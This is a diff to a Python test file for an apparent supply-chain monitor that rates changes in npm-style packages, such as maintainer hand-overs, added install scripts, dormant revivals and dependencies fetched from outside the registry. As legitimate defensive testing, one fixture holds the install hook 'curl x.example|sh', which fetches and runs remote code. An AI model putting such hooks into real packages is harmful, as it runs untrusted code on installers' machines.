@@ -105,6 +105,43 @@ def test_nobody_left_of_the_earlier_maintainers_is_ownership_replaced() -> None:
     assert "ownership-replaced" in kinds(package(), package(maintainers=(BOB,)))
 
 
+def test_owners_who_published_it_before_are_no_strangers() -> None:
+    before = package(release("1.0.0", 90, publisher=BOB, maintainers=(BOB,)), release("1.1.0", 10))
+    change = kinds(before, replace(before, maintainers=(BOB,)))["ownership-replaced"]
+    assert change.severity == Severity.MEDIUM
+
+
+def test_owners_whose_build_vouches_for_them_are_less_alarming() -> None:
+    place = {"repository": "https://forge.example/alice/left-pad"}
+    before = package(**place)
+    built = replace(published(before, release("1.6.0", provenance="slsa")), maintainers=(BOB,))
+    assert kinds(before, built)["ownership-replaced"].severity == Severity.MEDIUM
+    moved = replace(built, repository="https://forge.example/bob/left-pad")
+    assert kinds(before, moved)["ownership-replaced"].severity is None
+
+
+def test_a_hand_over_is_one_alert() -> None:
+    before = package()
+    found = kinds(before, replace(before, maintainers=(BOB,)))
+    told = {
+        finding(change, at=NOW, reach=(), severity_overrides={}).cause
+        for kind, change in found.items()
+        if kind in {"maintainer-added", "maintainer-removed", "ownership-replaced"}
+    }
+    assert len(told) == 1
+
+
+def test_a_newcomer_who_is_left_alone_is_more_than_one_of_the_old_who_is() -> None:
+    both = package(maintainers=(ALICE, BOB))
+    assert kinds(both, replace(both, maintainers=(BOB,)))["maintainer-removed"].severity == Severity.MEDIUM
+    assert kinds(both, replace(both, maintainers=(ALICE,)))["maintainer-removed"].severity is None
+
+
+def test_a_publisher_who_is_never_listed_is_told_once() -> None:
+    before = package(*(release(f"1.{n}.0", 90 - n, publisher=BOB) for n in range(3)))
+    assert "publisher-not-maintainer" not in kinds(before, published(before, release("1.3.0", publisher=BOB)))
+
+
 def test_a_pseudo_account_is_no_new_person() -> None:
     actions = Account("GitHub Actions", "npm-oidc-no-reply@github.com")
     assert kinds(package(), package(maintainers=(ALICE, actions))) == {}
@@ -142,6 +179,30 @@ def test_an_implicit_build_on_a_plain_package_is_grave() -> None:
     assert change.severity == Severity.HIGH
 
 
+@pytest.mark.parametrize(
+    ("old", "new", "severity"),
+    [
+        ({"install": "node-gyp rebuild"}, {"postinstall": "node collect.js"}, Severity.HIGH),
+        ({"install": "node build.js"}, {"preinstall": "node collect.js"}, Severity.HIGH),
+        ({"install": "node build.js"}, {"postinstall": "node clean.js"}, Severity.MEDIUM),
+        ({"install": "node build.js"}, {"postinstall": "node-gyp rebuild"}, Severity.LOW),
+    ],
+)
+def test_one_more_script_weighs_by_what_ran_before(
+    old: dict[str, str], new: dict[str, str], severity: Severity
+) -> None:
+    before = package(*(release(f"1.{n}.0", 90 - n, scripts=old) for n in range(6)))
+    found = kinds(before, published(before, release("1.6.0", scripts=old | new)))
+    assert found["install-script-added"].severity == severity
+
+
+def test_a_script_on_a_new_line_reaches_nobody_by_itself() -> None:
+    before = package()
+    for key, severity in (("postinstall", Severity.MEDIUM), ("preinstall", Severity.HIGH)):
+        found = kinds(before, published(before, release("2.0.0", scripts={key: "node setup.js"})))
+        assert found["install-script-added"].severity == severity
+
+
 def test_a_script_that_becomes_alarming_is_grave() -> None:
     before = package(*(release(f"1.{n}.0", 90 - n, scripts={"postinstall": "node build.js"}) for n in range(5)))
     after = published(before, release("1.6.0", scripts={"postinstall": "node build.js; curl x.example|sh"}))
@@ -158,8 +219,20 @@ def test_a_source_build_where_wheels_used_to_be_is_code_on_install() -> None:
 def test_a_release_after_years_of_silence_is_a_revival() -> None:
     silent = package(*(release(f"1.{n}.0", 1500 - n) for n in range(4)))
     change = kinds(silent, published(silent, release("1.6.0")))["dormant-revival"]
-    assert change.severity == Severity.HIGH
+    assert change.severity is None
+    assert KINDS["dormant-revival"].severity == Severity.HIGH
     assert change.happened_at == NOW
+
+
+@pytest.mark.parametrize("version", ["2.0.0", "1.7.0-beta.1"])
+def test_a_revival_that_no_range_takes_is_less_grave(version: str) -> None:
+    silent = package(*(release(f"1.{n}.0", 1500 - n) for n in range(4)))
+    assert kinds(silent, published(silent, release(version)))["dormant-revival"].severity == Severity.MEDIUM
+
+
+def test_a_release_of_an_older_line_reaches_those_who_stayed_on_it() -> None:
+    silent = package(release("1.0.0", 1600), release("2.0.0", 1500))
+    assert kinds(silent, published(silent, release("1.0.1")))["dormant-revival"].severity is None
 
 
 def test_provenance_that_was_a_habit_and_is_gone_is_grave() -> None:
@@ -192,8 +265,15 @@ def test_a_dependency_that_is_days_old_is_grave() -> None:
 @pytest.mark.parametrize(
     "reference", ["git+https://forge.example/x.git", "someone/repo#main", "https://x.example/a.tgz"]
 )
-def test_a_dependency_past_the_registry_is_graver(reference: str) -> None:
-    assert of_release(dependencies={"x": reference})["dependency-added"].severity == Severity.MEDIUM
+def test_a_dependency_past_the_registry_is_grave(reference: str) -> None:
+    assert of_release(dependencies={"x": reference})["dependency-added"].severity == Severity.HIGH
+
+
+def test_one_new_dependency_in_a_patch_is_more_than_one_in_a_minor_release() -> None:
+    before = package()
+    patch, minor = (release(version, dependencies={"x": "^1.0.0"}) for version in ("1.5.1", "1.6.0"))
+    assert kinds(before, published(before, patch))["dependency-added"].severity == Severity.LOW
+    assert kinds(before, published(before, minor))["dependency-added"].severity is None
 
 
 def test_other_bytes_under_the_same_version_are_seen() -> None:
@@ -264,18 +344,6 @@ def test_a_real_registry_behind_a_mirror_reveals_a_past_and_no_news() -> None:
         for one in (package().releases or {}).values()
     )
     assert kinds(package(*bare, maintainers=UNSET), package()) == {}
-
-
-def test_an_environment_unlike_the_habit_is_seen_with_its_facts() -> None:
-    before = package(*(release(f"1.{n}.0", 90 - n) for n in range(12)))
-    odd = release("1.12.0", git_head="", npm_version="6.0.0", node_version="12.0.0")
-    change = kinds(before, published(before, odd))["publish-environment-changed"]
-    assert change.evidence["facts"] == ["git_head", "node_version", "npm_version"]
-
-
-def test_one_odd_fact_alone_is_an_honest_day() -> None:
-    before = package(*(release(f"1.{n}.0", 90 - n) for n in range(12)))
-    assert "publish-environment-changed" not in kinds(before, published(before, release("1.12.0", git_head="")))
 
 
 def test_an_account_that_publishes_many_packages_in_an_hour_is_a_burst() -> None:
